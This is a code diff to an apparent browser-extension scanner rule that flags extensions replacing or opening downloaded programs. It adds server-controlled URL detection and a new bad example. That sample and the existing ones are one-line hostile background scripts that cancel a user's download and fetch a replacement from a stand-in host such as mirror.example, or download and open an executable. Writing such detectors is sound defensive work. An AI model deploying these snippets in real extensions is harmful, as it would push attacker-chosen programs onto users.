@@ -7,10 +7,11 @@ import {
   writesOf,
   type ScriptFacts,
 } from '../../facts/javascript/query.ts';
+import type { Facts } from '../../facts.ts';
 import { defineRule } from '../../rule.ts';
 import { backgroundExample, checkScripts, contentExample } from './checkScripts.ts';
 import { tagOf } from './codeRuns.ts';
-import { hostOf, isFromServer, leadsOut } from './network.ts';
+import { hostOf, isFromServer, isHeldServerText, leadsOut } from './network.ts';
 import { pathsInSlice } from './backwardSlice.ts';
 import { runsInPages } from './places.ts';
 import { callsWithin, first, functionOf } from './usage.ts';
@@ -26,6 +27,10 @@ function isMadeHere(script: ScriptFacts, address: number): boolean {
     ['URL.createObjectURL', 'FileReader', 'FileReader()', 'FileReader().result'].some((path) => paths.has(path))
   );
 }
+
+/** Whether a server decides an address, now or when it was asked before. */
+const isServers = (facts: Facts, script: ScriptFacts, address: number): boolean =>
+  isFromServer(facts, script, address) || isHeldServerText(facts, script, address);
 
 export const opensDownloadedProgram = defineRule({
   id: 'opens-downloaded-program',
@@ -69,10 +74,14 @@ export const opensDownloadedProgram = defineRule({
       );
       const inside = new Set(started.flatMap((event) => callsIn(script, event.args[0] ?? 0)));
       for (const call of callsOf(script, 'chrome.downloads.download')) {
-        const to = pattern(script, propertyOf(script, call.args[0] ?? 0, 'url'));
-        if (inside.has(call.value) && hostOf(to) !== undefined && leadsOut(to))
+        const address = propertyOf(script, call.args[0] ?? 0, 'url');
+        const to = pattern(script, address);
+        const isOther = inside.has(call.value) && hostOf(to) !== undefined && leadsOut(to);
+        const isServer = started.length > 0 && isServers(facts, script, address);
+        if (isOther || isServer)
           yield hit(call.value, {
             evidence: to.slice(0, 160),
+            ...(isServer ? { severity: 'critical' } : {}),
             message: say('download-replaced'),
           });
       }
@@ -85,7 +94,11 @@ export const opensDownloadedProgram = defineRule({
       if (PROGRAM.test(to) || PROGRAM.test(name))
         yield hit(
           call.value,
-          opens.length > 0 ? { severity: 'critical', confidence: 'high', message: say('opened-after-download') } : {},
+          opens.length > 0
+            ? { severity: 'critical', confidence: 'high', message: say('opened-after-download') }
+            : isServers(facts, script, address)
+              ? { confidence: 'high' }
+              : {},
         );
       else if (!isFromServer(facts, script, address) || isMadeHere(script, address)) continue;
       else if (opens.length > 0)
@@ -101,6 +114,9 @@ export const opensDownloadedProgram = defineRule({
   }),
   examples: {
     bad: [
+      backgroundExample(
+        'const list = () => fetch("https://mirror.example/l").then((r) => r.json()).then((all) => chrome.storage.local.set({ all })); chrome.alarms.onAlarm.addListener(list); const change = { async begin(item) { const { all } = await chrome.storage.local.get("all"); await chrome.downloads.cancel(item.id); await chrome.downloads.download({ url: all[item.mime] }); } }; chrome.downloads.onCreated.addListener((item) => change["begin"](item));',
+      ),
       backgroundExample('chrome.downloads.download({ url: "https://x.example/setup.exe", filename: "update.exe" });'),
       backgroundExample(
         'fetch("https://x.example/task").then((r) => r.json()).then((t) => chrome.downloads.download({ url: t.url }, (id) => chrome.downloads.open(id)));',
